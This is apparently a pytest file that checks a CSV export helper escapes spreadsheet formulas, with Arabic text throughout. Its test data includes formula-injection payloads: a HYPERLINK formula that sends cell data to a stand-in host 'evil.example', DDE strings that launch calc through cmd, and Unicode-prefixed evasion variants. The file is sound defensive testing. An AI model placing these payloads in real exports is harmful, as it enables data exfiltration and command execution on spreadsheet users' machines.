"""No cell of a file of ours is ever a formula, whatever people write."""

import csv
import io

import pytest

from reports.csv_file import csv_of, safe

FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"شكوى\")",
    "+971501234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200f=1+1",
    "\u2068=1+1\u2069",
    "\u061c+1",
    "\u00a0@SUM(A1)",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(A1)",
    "\0=1+1",
    "=شكوى!A1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_a_cell_that_would_be_a_formula_stays_a_text(text: str) -> None:
    body = csv_of([["رقم", text]]).decode("utf-8-sig")
    [[_, cell]] = list(csv.reader(io.StringIO(body, newline="")))
    assert cell.startswith("'")
    assert "\0" not in cell


@pytest.mark.parametrize("text", ["شكوى رقم DF-26-000019", "10 - 3", "a=b", "", "٥ أيام", "'=1+1"])
def test_what_is_no_formula_stays_as_it_is(text: str) -> None:
    assert safe(text) == text


def test_quotes_commas_and_lines_come_back_as_they_went() -> None:
    text = 'قال: "نعم"، ثم,\nسكت'
    body = csv_of([[text, "x"]]).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(body, newline=""))) == [[text, "x"]]
